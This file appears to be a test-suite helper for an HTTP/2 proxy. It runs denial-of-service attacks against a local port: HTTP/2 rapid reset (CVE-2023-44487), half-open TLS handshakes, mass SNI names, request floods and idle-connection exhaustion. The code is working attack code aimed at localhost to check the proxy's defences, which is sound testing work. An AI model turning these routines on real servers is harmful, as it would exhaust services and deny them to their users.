/** Attacks that no packaged tool makes, in a process of their own: `node attacker.mjs KIND PORT SECONDS`. */
import http2 from 'node:http2';
import net from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import tls from 'node:tls';
import { emitFrame, TYPE } from '../../src/proxy/http2/frames.js';
import { hello } from '../support/client-hello.js';
import { GREETING, headersFrame, requestFields } from '../support/h2-frames.js';

const [kind = '', portText = '', secondsText = '5'] = process.argv.slice(2);
const port = Number(portText);
const endsAt = performance.now() + Number(secondsText) * 1000;
const ended = (): boolean => performance.now() >= endsAt;
let done = 0;

const KINDS: Readonly<Record<string, () => Promise<void>>> = {
  'rapid-reset': () => inParallel(4, rapidReset),
  'half-open': halfOpen,
  names: () => inParallel(8, nextName),
  flood: () => inParallel(8, flood),
  connections: connections,
};

await KINDS[kind]?.();
process.stdout.write(`${done}\n`);
process.exit(0);

async function inParallel(workers: number, work: (worker: number) => Promise<void>): Promise<void> {
  await Promise.all(
    Array.from({ length: workers }, async (_, worker) => {
      while (!ended()) await work(worker);
    }),
  );
}

function dial(): net.Socket {
  const socket = net.connect({ host: '127.0.0.1', port });
  socket.on('error', () => undefined);
  return socket;
}

function closed(socket: net.Socket): Promise<void> {
  return new Promise(resolve => {
    if (socket.destroyed) resolve();
    else socket.once('close', () => resolve());
  });
}

function secured(servername: string, alpn: string): Promise<tls.TLSSocket | null> {
  return new Promise(resolve => {
    const socket = tls.connect({
      host: '127.0.0.1',
      port,
      servername,
      ALPNProtocols: [alpn],
      rejectUnauthorized: false,
    });
    socket.once('secureConnect', () => resolve(socket));
    socket.once('error', () => resolve(null)).once('close', () => resolve(null));
  });
}

/** CVE-2023-44487: streams that are opened and reset in one breath, until the connection is ended for it. */
async function rapidReset(): Promise<void> {
  const socket = await secured('allowed.test', 'h2');
  if (socket === null) return void (await delay(20));
  socket.on('error', () => undefined).resume();
  socket.write(GREETING);
  for (let stream = 1; !socket.destroyed && !ended() && stream < 20_000; stream += 200) {
    const frames: Buffer[] = [];
    for (let id = stream; id < stream + 200; id += 2) {
      frames.push(headersFrame(id, requestFields()), emitFrame(TYPE.reset, 0, id, Buffer.of(0, 0, 0, 8)));
      done += 1;
    }
    if (!socket.write(Buffer.concat(frames))) await delay(5);
    else await delay(1);
  }
  socket.destroy();
}

/** A thousand handshakes that stop in the middle of the ClientHello, begun again as they are ended. */
async function halfOpen(): Promise<void> {
  const bytes = hello({ serverNames: ['allowed.test'] });
  await Promise.all(
    Array.from({ length: 1_000 }, async () => {
      while (!ended()) {
        const socket = dial();
        socket.write(bytes.subarray(0, bytes.length - 5));
        done += 1;
        await Promise.race([closed(socket), delay(Math.max(0, endsAt - performance.now()))]);
        socket.destroy();
      }
    }),
  );
}

/** Ten thousand distinct names: what minting a certificate for each would cost. */
async function nextName(): Promise<void> {
  if (done >= 10_000) return void (await delay(100));
  done += 1;
  const socket = await secured(`n${done}.allowed.test`, 'http/1.1');
  socket?.destroy();
}

/** As many requests as there is an answer to. */
async function flood(): Promise<void> {
  const session = http2.connect(`https://allowed.test`, {
    createConnection: () =>
      tls.connect({
        host: '127.0.0.1',
        port,
        servername: 'allowed.test',
        ALPNProtocols: ['h2'],
        rejectUnauthorized: false,
      }),
  });
  session.on('error', () => undefined);
  const one = (): Promise<void> =>
    new Promise(resolve => {
      if (session.destroyed || session.closed) return resolve();
      const stream = session.request({ ':path': '/flood' });
      stream.on('error', () => undefined).once('close', () => resolve());
      stream.resume().end();
      done += 1;
    });
  while (!ended() && !session.destroyed && !session.closed) {
    await Promise.race([Promise.all(Array.from({ length: 50 }, one)), delay(1_000)]);
  }
  session.destroy();
  await delay(1);
}

/** As many idle connections as are taken. */
async function connections(): Promise<void> {
  const open: net.Socket[] = [];
  while (!ended()) {
    for (let i = 0; i < 100 && open.length < 12_000; i++) {
      const socket = dial();
      socket.once('connect', () => {
        done += 1;
      });
      open.push(socket);
    }
    await delay(10);
  }
  for (const socket of open) socket.destroy();
}
